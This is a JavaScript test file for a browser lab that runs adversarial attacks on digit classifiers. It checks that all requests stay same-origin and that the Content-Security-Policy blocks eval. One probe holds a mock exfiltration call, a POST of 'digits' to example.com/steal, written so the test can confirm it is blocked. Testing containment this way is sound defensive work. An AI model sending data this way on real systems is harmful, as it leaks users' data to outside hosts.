// Containment: the page's Content-Security-Policy allows same-origin fetches only and no eval;
// every request the page and its workers make goes to the site itself, and a dropped model or an
// uploaded image never leaves the browser.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { ROOT, launch, openPage, pageReady } from './harness.mjs';

let browser;
before(async () => { browser = await launch(); });
after(async () => { await browser?.close(); });

test('every request goes to the site itself, GET only; a dropped model and a photo are never sent', async () => {
  const origin = new URL(browser.base).origin;
  const requests = [];
  // the context's route sees the page's requests and its workers'
  await browser.context.route('**/*', (route) => {
    const r = route.request();
    requests.push({ url: r.url(), method: r.method(), body: r.postDataBuffer()?.length ?? 0 });
    return new URL(r.url()).origin === origin ? route.continue() : route.abort();
  });
  try {
    const page = await openPage(browser.context, `${browser.base}?model=cnn&digit=0`);
    await pageReady(page);
    // an attack, a dropped model, an uploaded photo, the Property 1 panel and the tour
    await page.selectOption('#method', 'fgsm');
    await page.click('#run-attack');
    await page.waitForSelector('#attack-result[data-label]:not([hidden])', { timeout: 60_000 });
    const model = readFileSync(join(ROOT, 'models/fc10-1.onnx'));
    await page.setInputFiles('#model-file', { name: 'mine.onnx', mimeType: 'application/octet-stream', buffer: model });
    await page.waitForFunction(() => document.querySelector('#model').value === 'local:mine.onnx'
      && document.body.dataset.modelState === 'ready');
    const png = Buffer.from(await page.evaluate(async () => {
      const c = new OffscreenCanvas(60, 60);
      const ctx = c.getContext('2d');
      ctx.fillStyle = '#fff'; ctx.fillRect(0, 0, 60, 60);
      ctx.fillStyle = '#000'; ctx.fillRect(25, 10, 10, 40);
      return Array.from(new Uint8Array(await (await c.convertToBlob()).arrayBuffer()));
    }));
    await page.setInputFiles('#image-file', { name: 'one.png', mimeType: 'image/png', buffer: png });
    await page.waitForFunction(() => document.querySelector('#digit-caption').textContent.startsWith('your image'));
    await page.locator('#units').scrollIntoViewIfNeeded();
    await page.waitForFunction(() => document.querySelector('#units-tensor')?.options.length > 1, null, { timeout: 60_000 });

    const foreign = requests.filter((r) => new URL(r.url).origin !== origin);
    assert.deepEqual(foreign, [], 'requests to another origin');
    assert.deepEqual(requests.filter((r) => r.method !== 'GET'), [], 'only GETs');
    assert.ok(requests.every((r) => r.body === 0), 'no request carries a body');
    assert.ok(!requests.some((r) => r.url.includes('mine.onnx') || r.url.includes('one.png')), 'the local files were requested');
    assert.ok(requests.some((r) => r.url.endsWith('/pkg/blindspot_bg.wasm')), 'the worker\'s requests are seen too');
    console.log(`${requests.length} requests, all to ${origin}, all GET`);
    assert.deepEqual(page.problems, []);
  } finally {
    await browser.context.unroute('**/*');
  }
});

// Runs as one of the site's own scripts (page.evaluate's code is exempt from the policy, as
// DevTools is): a test-only file served under the site's origin by the test's route.
const PROBE = `
const tryIt = (f) => { try { f(); return 'ran'; } catch (e) { return e.name; } };
window.probe = {
  eval: tryIt(() => eval('1 + 1')),
  newFunction: tryIt(() => new Function('return 1')()),
  timerString: tryIt(() => setTimeout('window.stringTimerRan = true', 0)),
};`;

test('the Content-Security-Policy refuses eval and requests to other origins, and the lab runs under it', async () => {
  await browser.context.route('**/csp-probe.js', (route) => route.fulfill({ contentType: 'text/javascript', body: PROBE }));
  const page = await openPage(browser.context, `${browser.base}?model=fc100-100-10&digit=3`);
  await pageReady(page);
  const policy = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  assert.match(policy, /default-src 'self'/);
  assert.match(policy, /connect-src 'self'/);
  assert.doesNotMatch(policy, /'unsafe-eval'|unsafe-inline/);
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`));
    const tryIt = async (f) => { try { await f(); return 'ran'; } catch (e) { return e.name; } };
    const probe = document.createElement('script');
    probe.src = 'csp-probe.js';
    await new Promise((ok, fail) => { probe.onload = ok; probe.onerror = fail; document.head.append(probe); });
    const result = {
      ...window.probe,
      fetchElsewhere: await tryIt(() => fetch('https://example.com/steal', { method: 'POST', body: 'digits' })),
      image: await new Promise((ok) => { const i = new Image(); i.onload = () => ok('loaded'); i.onerror = () => ok('blocked'); i.src = 'https://example.com/pixel.gif'; }),
    };
    await new Promise((ok) => setTimeout(ok, 100));
    return { ...result, stringTimerRan: window.stringTimerRan ?? false, violations };
  });
  console.log(JSON.stringify(outcome));
  assert.equal(outcome.eval, 'EvalError');
  assert.equal(outcome.newFunction, 'EvalError');
  assert.equal(outcome.stringTimerRan, false, 'a string given to setTimeout was evaluated');
  assert.equal(outcome.fetchElsewhere, 'TypeError');
  assert.equal(outcome.image, 'blocked');
  assert.ok(outcome.violations.some((v) => v.startsWith('connect-src https://example.com')), outcome.violations.join('; '));
  // the wasm compiled under the policy, and an attack runs
  await page.click('#run-attack');
  await page.waitForSelector('#attack-result[data-label]:not([hidden])', { timeout: 60_000 });
  assert.deepEqual(page.problems.filter((p) => !/example\.com|Content Security Policy|unsafe-eval|EvalError/.test(p)), []);
  await browser.context.unroute('**/csp-probe.js');
});
